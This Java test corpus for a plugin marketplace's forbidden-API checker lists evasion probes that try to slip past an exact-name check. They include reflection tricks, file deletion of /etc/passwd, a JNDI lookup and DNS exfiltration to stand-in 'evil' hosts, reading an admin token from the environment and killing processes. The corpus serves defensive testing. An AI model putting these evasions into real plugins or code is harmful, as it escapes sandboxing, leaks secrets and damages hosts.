package dev.mallkit.marketplace.forbidden;

import java.util.ArrayList;
import java.util.List;

/**
 * Evasions of the old exact-name check, each a distinct way in. Source probes are compiled by
 * javac: each class is {@code acme.E<index>} and its statement sits on line 3 of {@code run()}.
 * ASM-built probes ({@link AsmProbes}) cover shapes javac does not emit.
 */
final class EvasionCorpus {
    private EvasionCorpus() {
    }

    /** A statement in {@code public void run() throws Throwable}, on line 3. */
    private static Probe statement(String code, String name, String statement) {
        return new Probe(name, code, "", "#run()V:3", """
                package acme;
                public class $CLASS {
                public void run() throws Throwable { %s }
                }
                """.formatted(statement), null);
    }

    /** A whole class body; {@code location} is relative to the class ({@code ""}, or {@code #method:line}). */
    private static Probe type(String code, String name, String location, String header, String body) {
        return new Probe(name, code, "", location, "package acme;\npublic class $CLASS " + header + " {\n" + body + "\n}\n", null);
    }

    /** @return every probe, source probes named {@code acme.E<index>} with their locations resolved */
    static List<Probe> all() {
        List<Probe> all = new ArrayList<>();
        List<Probe> sources = sourceProbes();
        for (int i = 0; i < sources.size(); i++) {
            Probe probe = sources.get(i);
            String simple = "E" + i;
            all.add(new Probe(probe.name(), probe.code(), "acme." + simple, "acme." + simple + probe.location(),
                    probe.source().replace("$CLASS", simple), null));
        }
        all.addAll(AsmProbes.all());
        return all;
    }

    private static List<Probe> sourceProbes() {
        return List.of(
                statement("FORBIDDEN_REFLECTION", "reflection by a concatenated name",
                        "Class.forName(\"java.lang.\" + \"Runtime\").getMethod(\"getRuntime\").invoke(null);"),
                statement("FORBIDDEN_REFLECTION", "Class.forName of a name built at run time",
                        "Class.forName(new StringBuilder(\"emitnuR.gnal.avaj\").reverse().toString());"),
                statement("FORBIDDEN_REFLECTION", "public MethodHandles lookup of System.exit",
                        "java.lang.invoke.MethodHandles.publicLookup().findStatic(System.class, \"exit\","
                                + " java.lang.invoke.MethodType.methodType(void.class, int.class)).invoke(1);"),
                statement("FORBIDDEN_REFLECTION", "sun.misc.Unsafe reached by reflection",
                        "Class.forName(\"sun.misc.Unsafe\").getDeclaredField(\"theUnsafe\").get(null);"),
                statement("FORBIDDEN_REFLECTION", "a VarHandle onto a private field",
                        "java.lang.invoke.MethodHandles.lookup().findVarHandle(String.class, \"value\", byte[].class);"),
                statement("FORBIDDEN_REFLECTION", "an array VarHandle",
                        "java.lang.invoke.MethodHandles.arrayElementVarHandle(Object[].class).set(new Object[1], 0, null);"),
                statement("FORBIDDEN_REFLECTION", "listing declared methods of any object's class",
                        "getClass().getDeclaredMethods();"),
                statement("FORBIDDEN_REFLECTION", "a dynamic proxy",
                        "java.lang.reflect.Proxy.newProxyInstance(null, new Class<?>[] {Runnable.class}, (p, m, a) -> null);"),
                statement("FORBIDDEN_REFLECTION", "StackWalker for the caller's class",
                        "StackWalker.getInstance(StackWalker.Option.RETAIN_CLASS_REFERENCE).getCallerClass();"),
                statement("FORBIDDEN_CLASS_DEFINITION", "Lookup.defineClass from resource bytes",
                        "java.lang.invoke.MethodHandles.lookup().defineClass(getClass().getResourceAsStream(\"/x.bin\").readAllBytes());"),
                statement("FORBIDDEN_CLASS_DEFINITION", "the context class loader loads a host class",
                        "Thread.currentThread().getContextClassLoader().loadClass(\"dev.mallkit.host.Mallkit\");"),
                statement("FORBIDDEN_CLASS_DEFINITION", "the plugin's own class loader's parent",
                        "getClass().getClassLoader().getParent();"),
                statement("FORBIDDEN_CLASS_DEFINITION", "ServiceLoader",
                        "java.util.ServiceLoader.load(Runnable.class).findFirst();"),
                statement("FORBIDDEN_CLASS_DEFINITION", "the JDK compiler",
                        "javax.tools.ToolProvider.getSystemJavaCompiler();"),
                statement("FORBIDDEN_CLASS_DEFINITION", "a script engine",
                        "new javax.script.ScriptEngineManager().getEngineByName(\"js\");"),
                type("FORBIDDEN_CLASS_DEFINITION", "a subclass of ClassLoader calling its inherited defineClass",
                        "#make([B)Ljava/lang/Class;:3", "extends ClassLoader",
                        "public Class<?> make(byte[] b) { return defineClass(null, b, 0, b.length); }"),
                statement("FORBIDDEN_THREADS", "java.util.Timer",
                        "new java.util.Timer().schedule(new java.util.TimerTask() { public void run() { } }, 1L);"),
                statement("FORBIDDEN_THREADS", "CompletableFuture.runAsync",
                        "java.util.concurrent.CompletableFuture.runAsync(() -> { });"),
                statement("FORBIDDEN_THREADS", "an async stage of a completed future",
                        "java.util.concurrent.CompletableFuture.completedFuture(1).thenApplyAsync(x -> x);"),
                statement("FORBIDDEN_THREADS", "orTimeout's delayer thread",
                        "new java.util.concurrent.CompletableFuture<Integer>().orTimeout(1, java.util.concurrent.TimeUnit.SECONDS);"),
                statement("FORBIDDEN_THREADS", "CompletableFuture's delayed executor",
                        "java.util.concurrent.CompletableFuture.delayedExecutor(1, java.util.concurrent.TimeUnit.SECONDS).execute(() -> { });"),
                statement("FORBIDDEN_THREADS", "a SubmissionPublisher delivering on the common pool",
                        "new java.util.concurrent.SubmissionPublisher<String>().submit(\"x\");"),
                statement("FORBIDDEN_THREADS", "ForkJoinTask.fork onto the common pool",
                        "java.util.concurrent.ForkJoinTask.adapt(() -> { }).fork();"),
                statement("FORBIDDEN_THREADS", "a parallel stream",
                        "java.util.List.of(1, 2).parallelStream().forEach(x -> { });"),
                statement("FORBIDDEN_THREADS", "a parallel spliterator stream",
                        "java.util.stream.StreamSupport.stream(java.util.List.of(1).spliterator(), true).count();"),
                statement("FORBIDDEN_THREADS", "a parallel sort",
                        "java.util.Arrays.parallelSort(new int[] {3, 1});"),
                statement("FORBIDDEN_THREADS", "a ThreadLocal pinning the class loader to host threads",
                        "ThreadLocal.withInitial(() -> 1).get();"),
                type("FORBIDDEN_THREADS", "a ThreadFactory implementation", "", "implements java.util.concurrent.ThreadFactory",
                        "public Thread newThread(Runnable r) { return null; }"),
                type("FORBIDDEN_THREADS", "parallelStream inherited from ArrayList", "#count()J:3", "extends java.util.ArrayList<String>",
                        "public long count() { return parallelStream().count(); }"),
                statement("FORBIDDEN_FILES", "a host resource through the class loader's parent",
                        "getClass().getResourceAsStream(\"/META-INF/MANIFEST.MF\").readAllBytes();"),
                type("FORBIDDEN_THREADS", "a finalizer, run later on the JVM's finalizer thread", "", "",
                        "@SuppressWarnings(\"removal\") protected void finalize() { System.out.println(\"late\"); }"),
                statement("FORBIDDEN_FILES", "java.io.File", "new java.io.File(\"/etc/passwd\").delete();"),
                statement("FORBIDDEN_FILES", "Scanner(File)", "new java.util.Scanner(new java.io.File(\"/etc/passwd\")).nextLine();"),
                statement("FORBIDDEN_FILES", "PrintWriter(String fileName)", "new java.io.PrintWriter(\"/tmp/owned\").close();"),
                statement("FORBIDDEN_FILES", "PrintStream(String fileName)", "new java.io.PrintStream(\"/tmp/owned\").close();"),
                statement("FORBIDDEN_FILES", "Formatter(String fileName)", "new java.util.Formatter(\"/tmp/owned\").close();"),
                statement("FORBIDDEN_FILES", "Path.toFile", "java.nio.file.Path.of(\"/etc/passwd\").toFile().delete();"),
                statement("FORBIDDEN_FILES", "the default file system",
                        "java.nio.file.FileSystems.getDefault().getPath(\"/etc/passwd\");"),
                statement("FORBIDDEN_NETWORK", "a SocketChannel from the selector provider",
                        "java.nio.channels.spi.SelectorProvider.provider().openSocketChannel();"),
                statement("FORBIDDEN_NETWORK", "an asynchronous socket channel",
                        "java.nio.channels.AsynchronousSocketChannel.open();"),
                statement("FORBIDDEN_NETWORK", "URI.toURL().getContent()",
                        "java.net.URI.create(\"http://example.com\").toURL().getContent();"),
                statement("FORBIDDEN_NETWORK", "URL.getContent", "new java.net.URL(\"http://example.com\").getContent();"),
                statement("FORBIDDEN_NETWORK", "a JNDI lookup", "new javax.naming.InitialContext().lookup(\"ldap://evil/x\");"),
                statement("FORBIDDEN_NETWORK", "DNS exfiltration", "java.net.InetAddress.getByName(\"secret.evil.example\");"),
                statement("FORBIDDEN_NATIVE", "the FFM native linker", "java.lang.foreign.Linker.nativeLinker().defaultLookup();"),
                statement("FORBIDDEN_NATIVE", "FFM off-heap memory", "java.lang.foreign.Arena.global().allocate(8L);"),
                statement("FORBIDDEN_NATIVE", "System.loadLibrary", "System.loadLibrary(\"c\");"),
                type("FORBIDDEN_NATIVE", "a native method bound to a library the host already loaded", "", "",
                        "public native long peek(long address);"),
                statement("FORBIDDEN_NATIVE", "a direct buffer outside the heap", "java.nio.ByteBuffer.allocateDirect(1 << 30);"),
                statement("FORBIDDEN_EXIT", "Runtime::halt as an unbound method reference",
                        "java.util.function.ObjIntConsumer<Runtime> halt = Runtime::halt; halt.accept(null, 1);"),
                statement("FORBIDDEN_EXIT", "the Runtime obtained through a method reference",
                        "java.util.function.Supplier<Runtime> rt = Runtime::getRuntime; Object r = rt.get();"),
                statement("FORBIDDEN_PROCESS", "ProcessHandle", "ProcessHandle.current().parent();"),
                statement("FORBIDDEN_PROCESS", "killing a process by pid",
                        "ProcessHandle.of(1L).ifPresent(ProcessHandle::destroyForcibly);"),
                statement("FORBIDDEN_ENVIRONMENT", "System.getenv via a method reference",
                        "java.util.function.UnaryOperator<String> env = System::getenv; env.apply(\"MALLKIT_ADMIN_TOKEN\");"),
                statement("FORBIDDEN_ENVIRONMENT", "a system property through Integer.getInteger", "Integer.getInteger(\"mallkit.port\");"),
                statement("FORBIDDEN_ENVIRONMENT", "all system properties", "System.getProperties().list(System.out);"),
                statement("FORBIDDEN_ENVIRONMENT", "replacing the host's standard output",
                        "System.setOut(new java.io.PrintStream(new java.io.ByteArrayOutputStream()));"),
                statement("FORBIDDEN_ENVIRONMENT", "the JVM's arguments through JMX",
                        "java.lang.management.ManagementFactory.getRuntimeMXBean().getInputArguments();"),
                statement("FORBIDDEN_ENVIRONMENT", "silencing the host's logging",
                        "java.util.logging.Logger.getLogger(\"\").setLevel(java.util.logging.Level.OFF);"),
                statement("FORBIDDEN_ENVIRONMENT", "changing the JVM's default locale", "java.util.Locale.setDefault(java.util.Locale.CHINA);"),
                statement("FORBIDDEN_SERIALIZATION", "ObjectInputStream",
                        "new java.io.ObjectInputStream(new java.io.ByteArrayInputStream(new byte[0])).readObject();"),
                statement("FORBIDDEN_HOST_API", "a host library (Jackson)",
                        "new com.fasterxml.jackson.databind.ObjectMapper().readTree(\"{}\");"),
                statement("FORBIDDEN_HOST_API", "PF4J's plugin manager", "new org.pf4j.DefaultPluginManager().getPlugins();"),
                statement("FORBIDDEN_JDK_API", "the desktop", "java.awt.Desktop.getDesktop();"));
    }
}
